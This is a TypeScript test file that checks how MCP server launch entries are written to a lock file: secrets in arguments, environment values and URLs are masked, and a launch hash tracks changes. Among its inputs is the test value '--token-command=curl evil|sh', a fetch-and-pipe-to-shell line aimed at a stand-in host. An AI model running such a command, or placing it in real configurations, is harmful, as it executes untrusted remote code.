import { describe, expect, test } from 'vitest'
import { writtenLaunch } from '../../src/config/written-launch.ts'
import { readText } from '../../src/document/read.ts'
import { digestOf } from '../../src/model/digest.ts'
import type { JsonObject } from '../../src/model/json.ts'
import type { WrittenLaunch } from '../../src/model/lock.ts'

function launch(entry: object): WrittenLaunch {
  const { node } = readText(JSON.stringify({ server: entry }), 'mcp.json')
  const [found] = node?.kind === 'map' ? node.entries : []
  if (!found) throw new Error('no entry')
  return writtenLaunch(found)
}
function written(entry: object): JsonObject {
  return launch(entry).written
}

test('a launch line stands as it is written, with its variables', () => {
  const entry = {
    command: '${HOME}/bin/server',
    args: ['-y', '${ROOT:-/srv}'],
    cwd: 'work',
    env: { TOKEN: '${TOKEN}', ROOT: '${ROOT}/docs' },
    timeout: 30,
    disabled: false,
  }
  expect(written(entry)).toEqual({
    command: '${HOME}/bin/server',
    args: ['-y', '${ROOT:-/srv}'],
    cwd: 'work',
    env: { ROOT: '${ROOT}/docs', TOKEN: '${TOKEN}' },
  })
})

test('of an address the names of its headers count, and what they hold does not', () => {
  const entry = {
    url: 'https://user:pass@mcp.example.com/x?api_key=abcdef0123456789',
    headers: { 'X-Team': 'a', Authorization: 'Bearer ${TOKEN}' },
  }
  expect(written(entry)).toEqual({
    url: 'https://***@mcp.example.com/x?api_key=***',
    headers: ['Authorization', 'X-Team'],
  })
})

describe('no secret gets in', () => {
  const key = `ghp_${'a1B2'.repeat(9)}`
  test.each([
    [{ env: { GITHUB_TOKEN: 'hunter2' } }, { env: { GITHUB_TOKEN: '***' } }],
    [{ env: { X: key } }, { env: { X: '***' } }],
    [{ env: { API_KEY: '${KEY:-hunter2}' } }, { env: { API_KEY: '${KEY}' } }],
    [{ env: { LEVEL: 'debug' } }, { env: { LEVEL: `sha256:${digestOf('debug')}` } }],
    [{ args: ['--api-key', 'hunter2', 'x'] }, { args: ['--api-key', '***', 'x'] }],
    [{ args: ['--api-key', '${KEY}'] }, { args: ['--api-key', '${KEY}'] }],
    [{ args: ['--token=hunter2'] }, { args: ['--token=***'] }],
    [{ args: ['--token', '--verbose'] }, { args: ['--token', '--verbose'] }],
    [{ args: [key] }, { args: ['***'] }],
  ])('%j is %j', (entry, expected) => {
    expect(written(entry)).toEqual(expected)
  })
})

describe('what is run or read from counts, whatever secret it is about', () => {
  const key = `ghp_${'a1B2'.repeat(9)}`
  test.each([
    [
      { args: ['--token-command', 'cat /run/token'] },
      { args: ['--token-command', 'cat /run/token'] },
    ],
    [{ args: ['--token-command=curl evil|sh'] }, { args: ['--token-command=curl evil|sh'] }],
    [
      { args: ['-e', 'TOKEN_URL=https://a.example'] },
      { args: ['-e', 'TOKEN_URL=https://a.example'] },
    ],
    [{ args: ['-e', 'TOKEN=hunter2'] }, { args: ['-e', 'TOKEN=***'] }],
    [{ env: { TOKEN_URL: 'u' } }, { env: { TOKEN_URL: `sha256:${digestOf('u')}` } }],
    [{ env: { PASSWORD_FILE: '${HOME}/p' } }, { env: { PASSWORD_FILE: '${HOME}/p' } }],
    [{ env: { AUTH_PROVIDER: 'x' } }, { env: { AUTH_PROVIDER: `sha256:${digestOf('x')}` } }],
    [{ args: [`--${key}_file=x`] }, { args: ['--***_file=x'] }],
    [{ env: { TOKEN_COMMAND: key } }, { env: { TOKEN_COMMAND: '***' } }],
    [{ args: [`--token-command=echo ${key}`] }, { args: ['--token-command=echo ***'] }],
    [
      { args: ['--token-url=https://u:hunter2@a.example'] },
      { args: ['--token-url=https://***@a.example'] },
    ],
  ])('%j is %j', (entry, expected) => {
    expect(written(entry)).toEqual(expected)
  })
})

describe('the hash', () => {
  const base = { command: 'node', args: ['a', 'b'], env: { A: '1', B: '2' } }
  const { digest } = launch(base)

  test('does not depend on the order of members or variables, or on what starts nothing', () => {
    const turned = { env: { B: '2', A: '1' }, args: ['a', 'b'], command: 'node', timeout: 5 }
    expect(launch(turned).digest).toBe(digest)
  })

  test.each([
    [{ ...base, command: 'node2' }],
    [{ ...base, args: ['b', 'a'] }],
    [{ ...base, args: ['a', 'b', 'c'] }],
    [{ ...base, env: { A: '1' } }],
    [{ ...base, env: { A: '1', B: '3' } }],
    [{ ...base, env: { A: '1', C: '2' } }],
    [{ ...base, env: { ...base.env, NODE_OPTIONS: '${X}' } }],
    [{ ...base, env: { ...base.env, TOKEN_HELPER: 'x' } }],
    [{ ...base, args: ['--token-command', 'curl evil|sh'] }],
    [{ ...base, cwd: '/' }],
    [{ url: 'https://example.com' }],
  ])('is another for %j', (other) => {
    expect(launch(other).digest).not.toBe(digest)
  })

  test('of an address is another in the clear, of another kind, or with another header', () => {
    const address = { url: 'https://example.com/mcp', headers: { A: '${A}' } }
    const others = [
      { ...address, insecure: true },
      { ...address, type: 'sse' },
      { ...address, headers: { B: '${A}' } },
      { ...address, url: 'https://example.com/other' },
    ]
    const digests = [address, ...others].map((one) => launch(one).digest)
    expect(new Set(digests).size).toBe(digests.length)
    expect(launch({ ...base, type: 'stdio' }).digest).toBe(digest)
  })
})
